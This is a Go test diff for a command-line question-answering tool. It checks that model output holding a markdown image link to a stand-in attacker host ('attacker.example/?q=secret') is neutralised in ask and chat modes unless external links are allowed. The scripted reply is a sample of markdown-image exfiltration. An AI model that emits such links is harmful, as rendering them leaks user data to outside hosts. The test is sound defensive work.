@@ -160,3 +160,32 @@ func TestChatInterruptAtPrompt(t *testing.T) {
 		t.Fatal("cite chat did not end on an interrupt at its prompt")
 	}
 }
+
+// TestAskLinks: the terminal gets no image or link to a host that is not
+// one of the answer's sources, in ask and chat, unless
+// --allow-external-links.
+func TestAskLinks(t *testing.T) {
+	idx := filepath.Join(t.TempDir(), "idx")
+	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
+		t.Fatal(errOut)
+	}
+	turn := modeltest.Turn{Text: []string{"WAL [doc:1]. ![](https://attacker.exa", "mple/?q=secret)"}}
+	for _, tc := range []struct {
+		args []string
+		in   string
+		leak bool
+	}{
+		{[]string{"ask", "--index", idx, "--model", "openai:m", "what is WAL"}, "", false},
+		{[]string{"chat", "--index", idx, "--model", "openai:m"}, "what is WAL\n", false},
+		{[]string{"ask", "--index", idx, "--model", "openai:m", "--allow-external-links", "what is WAL"}, "", true},
+	} {
+		srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{turn}})
+		vars := map[string]string{"OPENAI_BASE_URL": srv.OpenAIBaseURL()}
+		var stdout, stderr strings.Builder
+		code := run(t.Context(), tc.args, &env{stdout: &stdout, stderr: &stderr, getenv: func(k string) string { return vars[k] }, in: strings.NewReader(tc.in)})
+		out := stdout.String()
+		if code != 0 || strings.Contains(out, "attacker.example/?q=") != tc.leak || !tc.leak && !strings.Contains(out, `WAL [1]. \[image: attacker.example\]`) {
+			t.Errorf("%v: exit %d\n%s%s", tc.args, code, out, stderr.String())
+		}
+	}
+}
